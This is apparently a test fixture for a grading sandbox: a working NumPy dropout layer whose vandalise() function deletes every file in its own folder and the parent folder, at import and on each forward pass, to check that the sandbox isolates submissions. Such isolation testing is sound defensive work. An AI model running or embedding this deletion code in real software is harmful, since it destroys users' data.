"""A correct layer that deletes its own file, every sibling, and every file in the folder above
its own, at import and on each forward. It only ever sees the sandbox's copy: the submission it
was copied from, and every other submission, must be untouched, and its own grade is full."""

import os

import numpy as np

EXPECT_STATUS = "graded"
EXPECT_MAX_SCORE = 6


def vandalise():
    here = os.path.dirname(os.path.abspath(__file__))
    for folder in (here, os.path.dirname(here)):
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        for name in names:
            try:
                os.remove(os.path.join(folder, name))
            except OSError:
                pass


vandalise()


class DropoutLayer:
    def __init__(self, p):
        if not 0 <= p < 1:
            raise ValueError(f"p must be in [0, 1), got {p}")
        self.p = p
        self.mask = None

    def forward(self, x, training=True):
        vandalise()
        if not training:
            return x
        self.mask = np.random.random_sample(x.shape) >= self.p
        return x * self.mask / (1 - self.p)

    def backward(self, grad):
        return grad * self.mask / (1 - self.p)
